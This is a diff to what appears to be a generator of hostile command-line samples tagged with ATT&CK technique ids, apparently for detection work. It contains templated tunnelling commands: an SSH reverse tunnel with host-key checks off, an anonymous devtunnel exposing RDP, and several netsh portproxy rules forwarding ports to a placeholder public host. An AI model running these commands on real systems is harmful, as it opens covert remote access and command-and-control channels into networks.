@@ -99,7 +99,8 @@ ssh -f -N -R 1080 -i ~d~id_rsa -o StrictHostKeyChecking=no -p 443 tunnel@@pub@
 ~d~devtunnel.exe host -p 3389 --allow-anonymous
 """, weight=1.3)
 hostile("forwarded-ports-and-onion-proxies", "Command and Control", "T1090.001 T1090.003", r"""
-netsh interface portproxy add v4tov4 listenport=«8080|4455|9999|3340|445» listenaddress=0.0.0.0 connectport=«3389|445|4444|22» connectaddress=«@ip@|@pub@»
+netsh interface portproxy add v4tov4 listenport=«8080|4455|9999|3340|445» listenaddress=0.0.0.0 connectport=«3389|445|4444|22» connectaddress=@pub@
+netsh interface portproxy add v4tov4 listenport=«8080|3340|443» listenaddress=0.0.0.0 connectport=3389 connectaddress=@ip@
 netsh.exe interface portproxy add v4tov4 listenaddress=@ip@ listenport=@port@ connectaddress=@pub@ connectport=443 protocol=tcp
 netsh interface portproxy add v4tov4 8001 @pub@ 443
 netsh i p a v l=8001 listena=0.0.0.0 connectp=443 c=@pub@
